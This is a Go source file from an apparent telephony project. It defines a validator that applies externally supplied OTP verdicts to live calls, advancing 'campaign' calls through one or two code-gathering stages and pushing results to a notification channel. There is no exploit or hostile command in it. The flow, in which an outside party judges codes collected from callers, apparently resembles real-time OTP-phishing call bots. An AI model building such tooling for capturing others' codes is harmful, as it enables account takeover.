package action

import (
	"errors"
	"log/slog"
	"net/url"

	"github.com/dialflow/dialflow/internal/call"
	"github.com/dialflow/dialflow/internal/catalog"
	"github.com/dialflow/dialflow/internal/push"
)

// ErrCallNotFound is returned when a validation targets a call with no
// record.
var ErrCallNotFound = errors.New("action: call not found")

// Steerer hot-swaps the action script of a live channel session.
type Steerer interface {
	Steer(channelID, rawURL string, params url.Values) error
}

// Validator applies external OTP decisions to live calls: it advances the
// gather stage, steers the session to the matching step, and reports the
// verdict on the push channel.
type Validator struct {
	baseURL  string
	calls    *call.Store
	catalog  *catalog.Catalog
	sessions Steerer
	notify   Notifier
	logger   *slog.Logger
}

// NewValidator creates the validation endpoint's domain half.
func NewValidator(baseURL string, calls *call.Store, cat *catalog.Catalog, sessions Steerer, notify Notifier, logger *slog.Logger) *Validator {
	return &Validator{
		baseURL:  baseURL,
		calls:    calls,
		catalog:  cat,
		sessions: sessions,
		notify:   notify,
		logger:   logger.With("subsystem", "otp-validate"),
	}
}

// Validate dispatches one OTP verdict for callID. Two-gather campaigns walk
// first → second → completed; single-gather campaigns jump straight to
// their completion step.
func (v *Validator) Validate(callID string, isValid bool) error {
	data, ok := v.calls.Get(callID)
	if !ok {
		return ErrCallNotFound
	}
	twoGather := v.catalog.TwoGather(data.Campaign)
	secondStage := data.GatherStage == call.GatherStageSecond

	v.logger.Info("otp verdict",
		"call_id", callID,
		"valid", isValid,
		"two_gather", twoGather,
		"gather_stage", data.GatherStage,
	)

	switch {
	case isValid && twoGather && !secondStage:
		v.calls.Update(callID, func(d *call.Data) { d.GatherStage = call.GatherStageSecond })
		v.steer(callID, catalog.StepGather1)
		v.push(callID, push.ValidationMessage{
			CallID:        callID,
			OtpValidation: "valid",
			GatherStage:   call.GatherStageSecond,
		})

	case isValid && twoGather:
		v.steer(callID, catalog.StepCompleted)
		v.push(callID, push.ValidationMessage{
			CallID:        callID,
			OtpValidation: "valid",
			GatherStage:   "completed",
		})

	case isValid:
		v.steer(callID, completionStep(data.SelectedOption))
		v.push(callID, push.ValidationMessage{
			CallID:         callID,
			OtpValidation:  "valid",
			SelectedOption: data.SelectedOption,
		})

	case twoGather && !secondStage:
		v.calls.Update(callID, func(d *call.Data) { d.GatherStage = call.GatherStageFirst })
		v.steer(callID, catalog.StepInvalid)

	case twoGather:
		// Second OTP rejected: replay the gather1 round.
		v.steer(callID, catalog.StepGather1)

	default:
		v.steer(callID, catalog.StepInvalid)
		v.push(callID, push.ValidationMessage{CallID: callID, OtpValidation: "invalid"})
	}
	return nil
}

// completionStep picks the terminal step for a single-gather call.
func completionStep(selectedOption string) string {
	switch selectedOption {
	case "1":
		return catalog.StepCompletedOption1
	case "2":
		return catalog.StepCompletedOption2
	default:
		return catalog.StepCompleted
	}
}

func (v *Validator) steer(callID, step string) {
	target := v.baseURL + "/action/" + step
	if err := v.sessions.Steer(callID, target, nil); err != nil {
		v.logger.Warn("steering failed",
			"call_id", callID,
			"step", step,
			"error", err,
		)
	}
}

func (v *Validator) push(callID string, payload any) {
	if err := v.notify.Send(callID, payload); err != nil {
		v.logger.Warn("push failed", "call_id", callID, "error", err)
	}
}
